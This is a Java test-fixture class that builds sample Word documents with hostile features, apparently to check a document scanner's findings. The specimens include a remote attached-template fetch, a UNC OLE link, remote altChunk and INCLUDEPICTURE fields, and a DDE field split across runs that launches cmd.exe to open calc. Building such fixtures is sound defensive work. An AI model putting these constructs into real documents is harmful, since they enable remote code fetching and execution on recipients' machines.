package vn.sokehoach.data.foreign;

import static vn.sokehoach.data.foreign.Specimen.HOST;
import static vn.sokehoach.data.foreign.Specimen.NUMBERS;

import java.util.List;
import vn.sokehoach.data.word.DocxFile;

/** Documents of Word that would fetch, carry along or run something. */
final class HostileWord {

    private HostileWord() {}

    static List<Specimen> all() {
        return List.of(
                new Specimen("khung-mau.docx",
                        plain().relation("settings", "settings.xml", false)
                                .part("word/settings.xml", "<w:settings xmlns:w='w' xmlns:r='relationships'>"
                                        + "<w:attachedTemplate r:id='r1'/></w:settings>")
                                .part("word/_rels/settings.xml.rels",
                                        DocxFile.externalList("attachedTemplate", "http://" + HOST + "/mau.dotm"))
                                .bytes(),
                        "EXTERNAL_LINK: 1, " + HOST),
                new Specimen("mau-tren-may.docx",
                        plain().part("word/_rels/settings.xml.rels",
                                DocxFile.externalList("attachedTemplate", "file:///C:\\Mau\\Congvan.dotx")).bytes()),
                new Specimen("hinh.docx",
                        plain().relation("image", "https://" + NUMBERS + "/a.png", true)
                                .relation("image", "file:///C:/Anh/so-do.png", true)
                                .bytes(),
                        "EXTERNAL_LINK: 2, " + NUMBERS + ", so-do.png"),
                new Specimen("doi-tuong.docx",
                        plain().relation("oleObject", "\\\\" + HOST + "\\chung\\bang.xlsx", true)
                                .relation("oleObject", "embeddings/oleObject1.bin", false)
                                .relation("package", "embeddings/Bang_tinh.xlsx", false)
                                .relation("control", "activeX/activeX1.xml", false)
                                .part("word/embeddings/oleObject1.bin", "x")
                                .bytes(),
                        "EXTERNAL_LINK: 1, " + HOST, "EMBEDDED_FILE: 2, oleObject1.bin, Bang_tinh.xlsx",
                        "SCRIPT: 1, control"),
                new Specimen("ghep.docx",
                        DocxFile.body(DocxFile.p(Specimen.WORDS) + "<w:altChunk r:id=\"x0\"/>")
                                .relation("aFChunk", "http://" + HOST + "/ghep.html", true)
                                .bytes(),
                        "EXTERNAL_LINK: 1, " + HOST),
                new Specimen("lien-ket-thuong.docx",
                        DocxFile.body("<w:p><w:hyperlink r:id=\"x0\">" + DocxFile.run(Specimen.WORDS)
                                + "</w:hyperlink></w:p>" + field("HYPERLINK \"http://" + HOST + "/tin\""))
                                .relation("hyperlink", "http://" + HOST + "/", true)
                                .bytes()),
                fields());
    }

    private static Specimen fields() {
        String simple = "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://" + HOST
                + "/b.png&quot; \\d \"><w:r><w:t>hình</w:t></w:r></w:fldSimple></w:p>";
        String parted = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> dde</w:instrText></w:r>"
                + "<w:del><w:r><w:instrText>auto </w:instrText></w:r></w:del><w:r><w:instrText>\"C:\\\\Windows\\\\cmd.exe\" "
                + "\"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        String within = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 1</w:instrText></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>//" + NUMBERS + "/c.docx</w:t></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        String nested = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDETEXT "
                + "</w:instrText></w:r>" + within + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        byte[] bytes = DocxFile.body(DocxFile.p(Specimen.WORDS) + simple + parted + nested
                + field("LINK Excel.Sheet.12 \"D:\\\\So lieu\\\\bieu.xlsx\" \"Sheet1!R1C1\" \\a \\f 5")
                + field("PAGE")).bytes();
        return new Specimen("truong.docx", bytes, "EXTERNAL_LINK: 3, " + HOST + ", " + NUMBERS + ", bieu.xlsx",
                "SCRIPT: 1, cmd.exe");
    }

    private static String field(String instruction) {
        return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> "
                + instruction + " </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + DocxFile.run("kết quả") + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    }

    private static DocxFile plain() {
        return DocxFile.body(DocxFile.p(Specimen.WORDS));
    }
}
